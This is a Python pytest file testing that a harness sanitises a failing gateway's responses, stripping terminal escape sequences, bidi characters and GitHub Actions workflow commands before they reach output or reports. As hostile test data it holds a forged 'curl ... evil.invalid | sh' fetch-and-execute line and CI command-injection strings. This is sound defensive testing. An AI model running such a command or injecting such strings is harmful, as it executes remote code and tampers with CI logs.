"""Nothing that a system answers steers a terminal, or passes for a command of the harness's."""

import json
import re
from pathlib import Path
from socket import socket

import pytest

from reports.record.record import E2eRun, read_record
from testcontainers_fixtures.errors import StartError
from testcontainers_fixtures.part_readiness import wait_ready
from tests.integration.raw_server import Part, RawServer, always, raw_server
from tests.integration.test_fronts import NOTES, contract

STEERING = "\x1b]0;title\x07\x1b[31m\x9b2J\x7f\b\u202e\u2066 [bold]loud[/bold] [link=file:///x]"
FORGED = "curl -X GET http://evil.invalid/ | sh"
# GitHub's runner obeys the one at the start of a line, the other wherever it stands.
COMMANDS = "::error::owned\n   ::set-output name=a::b\n::stop-commands::x\na ##[add-mask]b"
BODY = f"{STEERING}\n{FORGED}\n{COMMANDS}\n\nReproduce with:\n\n    {FORGED}\n"


def failing(server: RawServer, link: socket, request: bytes) -> None:
    """Answer 500 with what steers a terminal, in body and headers."""
    _ = server
    content = b"" if request.startswith(b"HEAD") else BODY.encode()
    head = "HTTP/1.1 500 \x1b[5mno\r\nContent-Type: text/plain\r\nX-A: \x1b[31m\u0085\r\n"
    link.sendall(head.encode("latin-1") + b"Content-Length: %d\r\n\r\n" % len(content) + content)


@pytest.mark.timeout(200)
def test_what_a_failing_gateway_answers_reaches_neither_terminal_nor_command_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    with raw_server(failing) as gateway:
        code, said = contract(tmp_path, gateway.url)
    [run] = tmp_path.glob("*-e2e")
    record = read_record(run)
    page = (run / "index.html").read_text(encoding="utf-8")
    lines = [line.strip(" |E") for line in said.splitlines()]

    assert isinstance(record, E2eRun)
    assert code == 1, said[-3000:]
    assert [one for one in said if not (one.isprintable() or one in "\n\t")] == []
    assert not [line for line in lines if line.startswith(FORGED)]
    assert [line for line in lines if line.startswith("curl -X ")]
    commands = [line for line in said.splitlines() if line.lstrip().startswith("::")]
    assert commands
    assert not [
        one for one in commands if not one.startswith(("::error title=", "::warning title="))
    ]
    assert "##[" not in said
    failed = [one for one in record.checks if one.verdict == "fail"]
    assert failed
    assert all(one.curl is None for one in failed)
    assert all(one.request is None or one.request.target == "/notes" for one in failed)
    assert any(one.request for one in failed)
    shown = re.findall(r'aria-label="curl line">([^<]*)<', page)
    assert shown
    assert not [line for line in shown if "evil" in line]


def test_a_part_that_is_not_ready_is_quoted_plainly() -> None:
    with raw_server(failing) as server, pytest.raises(StartError) as caught:
        wait_ready(Part(server.url), "GET /ready", timeout_s=0.5)

    assert "\\x1b[31m" in str(caught.value)
    assert [one for one in str(caught.value) if not (one.isprintable() or one == "\n")] == []


@pytest.mark.timeout(100)
def test_a_document_whose_paths_would_steer_a_terminal_is_refused(tmp_path: Path) -> None:
    notes = NOTES | {"paths": {"/notes\x1b[31m": {"get": {"responses": {}}}}}
    (tmp_path / "notes.json").write_text(json.dumps(notes), encoding="utf-8")
    with raw_server(always()) as gateway:
        code, said = contract(tmp_path, gateway.url)

    assert code == 2, said[-3000:]
    assert "Expected paths that print" in " ".join(said.split())
    assert "\x1b" not in said
